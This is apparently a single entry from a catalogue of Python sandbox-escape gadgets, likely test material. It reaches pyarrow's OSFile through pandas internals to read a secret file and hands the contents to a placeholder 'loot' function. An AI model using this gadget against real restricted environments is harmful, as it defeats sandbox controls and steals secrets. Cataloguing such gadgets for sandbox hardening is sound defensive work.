# kind: gadgets
# tries: pyarrow's file system layer through a pandas module

import pandas as pd

pa = pd.core.arrays.arrow.array.pa
loot(pa.OSFile(VICTIM["secret"]).read().decode())
